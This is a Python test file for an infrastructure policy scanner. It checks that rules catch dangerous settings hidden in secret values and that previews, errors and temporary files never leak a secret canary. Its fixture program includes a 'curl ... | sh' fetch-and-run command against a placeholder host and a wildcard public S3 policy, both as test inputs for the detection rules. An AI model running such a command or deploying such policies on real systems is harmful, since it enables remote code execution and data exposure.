"""Secrets of a program in its own environment: rules read them, and nothing else has them."""

from __future__ import annotations

from pathlib import Path

import pytest
from typer.testing import CliRunner

import graph.programs
from delivery.cli import app
from policies import findings
from tests.harness.small_programs import recorded, thing, written

pytestmark = pytest.mark.slow  # each starts a Python with its SDKs

CANARY = "canary-9f86d081884c7d65"
PROGRAM = f"""
import json
everyone = {{"Effect": "Allow", "Principal": "*", "Action": "s3:*", "Sid": "{CANARY}"}}
Thing("whole", {{"policy": Output.secret(json.dumps({{"Statement": [everyone]}}))}})
Thing("member", {{"access": [{{"acl": Output.secret("public-read"), "by": "{CANARY[:6]}"}}]}})
Thing("script", {{"run": Output.secret("curl https://{CANARY}.example | sh")}})
Thing("login", {{"db_password": Output.secret("{CANARY}"), "url": Output.secret("a:{CANARY}@b")}})
Thing("keys", {{"map": Output.secret({{"{CANARY}": {{"isPublic": True}}}})}})
Output.all(Output.secret("{CANARY}"), Thing("other").id).apply(lambda both: int(both[0] + both[1]))
pulumi.export("secret", Output.secret("{CANARY}"))
"""


def test_dangers_in_secrets_are_found(tmp_path: Path):
    graph = recorded(tmp_path, PROGRAM)
    assert thing(graph, "whole").inputs == {"policy": "[secret]"}
    assert {one.rule for one in findings(graph)} >= {
        *("aws-iam-006", "any-public-001", "any-public-002", "any-command-001")
    }
    assert "any-secret-001" not in {one.rule for one in findings(graph)}


@pytest.mark.parametrize("form", ["tree", "markdown", "html", "json"])
def test_no_form_of_a_preview_shows_a_secret(tmp_path: Path, form: str):
    written(tmp_path, PROGRAM)
    done = CliRunner().invoke(app, ["preview", "-C", str(tmp_path), "--format", form])
    assert done.exit_code == 1
    assert "aws-iam-006" in done.stdout + done.stderr
    assert CANARY not in done.stdout + done.stderr


def test_the_error_of_a_function_is_told_unless_it_can_quote_a_secret(tmp_path: Path):
    program = """
    Thing("a").id.apply(lambda known: int(known + "1x"))
    Output.all(Output.secret("hunter2"), Thing("b").id).apply(lambda both: int(both[0] + both[1]))
    """
    told = "\n".join(notice.what for notice in recorded(tmp_path, program).notices)
    assert "ValueError: invalid literal for int() with base 10: 'a1x'" in told
    assert "(ValueError)" in told
    assert "hunter2" not in told


def test_the_file_between_both_processes_is_private_and_deleted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    seen: list[tuple[int, int]] = []
    files: list[Path] = []
    plain = graph.programs.json.loads

    def loads(text: str) -> object:
        for file in Path(graph.programs.tempfile.gettempdir()).glob("qudag-mcp-run-*/result.json"):
            seen.append((file.stat().st_mode & 0o777, file.parent.stat().st_mode & 0o777))
            files.append(file)
        return plain(text)

    monkeypatch.setattr(graph.programs.tempfile, "tempdir", str(tmp_path / "temporary"))
    (tmp_path / "temporary").mkdir()
    monkeypatch.setattr(graph.programs.json, "loads", loads)
    recorded(tmp_path / "program", PROGRAM)
    assert set(seen) == {(0o600, 0o700)}
    assert not any(file.exists() for file in files)
    assert not list((tmp_path / "temporary").iterdir())
